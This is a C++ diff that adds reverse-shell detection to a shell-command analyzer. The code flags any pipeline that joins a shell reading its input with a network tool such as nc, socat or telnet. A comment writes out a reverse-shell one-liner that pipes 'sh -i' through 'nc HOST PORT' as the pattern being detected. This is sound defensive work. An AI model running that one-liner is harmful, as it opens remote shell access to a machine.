@@ -183,11 +183,41 @@ Stream Analyzer::Pipeline(const Node& n, State& st, const Ctx& ctx, const Stream
   Stream s = in;
   Ctx c = ctx;
   if (n.children.size() > 1) c.concurrent = true;
+  const size_t first = out_->commands.size();
   for (const auto& child : n.children) {
     State copy = st;  // every stage runs in a subshell
     s = Walk(child, copy, c, s);
   }
+  if (n.children.size() > 1) ShellOverNetwork(first);
   return s;
+}
+
+namespace {
+
+bool IsNetworkTool(const CommandFact& f) {
+  static constexpr std::string_view kTools[] = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat",
+                                                "telnet", "cryptcat", "pwncat", "sbd", "websocat"};
+  if (std::find(std::begin(kTools), std::end(kTools), f.name) != std::end(kTools)) return true;
+  return f.name == "openssl" && f.argv.size() > 1 && f.argv[1] == "s_client";
+}
+
+// A shell that reads its commands from its input: -i, -s, or no script and no -c.
+bool ShellReadingInput(const CommandFact& f) {
+  if (LookupCommand(f.name).family != Family::kShell) return false;
+  if (HasOption(f.options, {"-i", "-s"})) return true;
+  return f.operands.empty() && !HasOption(f.options, {"-c"});
+}
+
+}  // namespace
+
+// cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f: a shell and a network tool in one pipeline.
+void Analyzer::ShellOverNetwork(size_t first) {
+  bool shell = false, network = false;
+  for (size_t k = first; k < out_->commands.size(); ++k) {
+    shell = shell || ShellReadingInput(out_->commands[k]);
+    network = network || IsNetworkTool(out_->commands[k]);
+  }
+  if (shell && network) Signal(kSignalReverseShell, "a shell reading its commands from a network connection");
 }
 
 Stream Analyzer::Maybe(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
